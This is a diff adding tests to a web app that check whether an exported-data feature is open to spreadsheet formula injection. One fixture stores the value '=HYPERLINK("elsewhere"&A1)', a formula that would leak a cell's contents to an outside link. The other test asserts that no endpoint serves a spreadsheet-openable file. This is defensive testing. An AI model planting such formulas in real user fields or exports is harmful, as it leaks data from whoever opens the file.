@@ -218,6 +218,34 @@ def _runs(page: str) -> bool:
 
 
 @once
+class TestAFormulaInAField:
+    FORMULA: Final = '=HYPERLINK("elsewhere"&A1)'
+
+    def test_is_a_text_in_the_file_that_somebody_takes_along(self, world, tries):
+        open_door = tries(world.actors["youth one"])
+        form = next(form for form in forms_on(open_door("GET", "/my/data/me").text) if form.action == "/my/data/me")
+        sent = form.kept | {"name": self.FORMULA, "csrf_token": open_door.token}
+        assert open_door("POST", "/my/data/me", data=sent).status_code == 303
+
+        answer = open_door("POST", "/my/data/everything.json", data={"csrf_token": open_door.token})
+
+        assert ".json" in answer.headers["Content-Disposition"]
+        assert answer.json["me"]["name"] == self.FORMULA
+
+    def test_goes_into_no_table_that_a_spreadsheet_opens(self, app, world, tries):
+        """Nobody is given one; who makes the first has to disarm formulas in it."""
+        kinds = set()
+        for name in ONE_OF_EACH:
+            actor, open_door = world.actors[name], tries(world.actors[name])
+            for rule, permission in [*rules_of(app, method="GET"), *rules_of(app, method="GET", public=True)]:
+                for filling in ways_in(world, actor, rule):
+                    if permission is None or may(actor, permission, filling):
+                        kinds.add(open_door("GET", address_of(app, rule, filling)).mimetype)
+
+        assert kinds <= {"text/html", "text/css", "text/plain", "text/javascript", "application/json", "font/ttf"}
+
+
+@once
 class TestWhatIsWrittenInAField:
     def test_is_shown_as_it_was_written(self, app, world, tries):
         """So that the walks above do not pass because nothing was kept."""
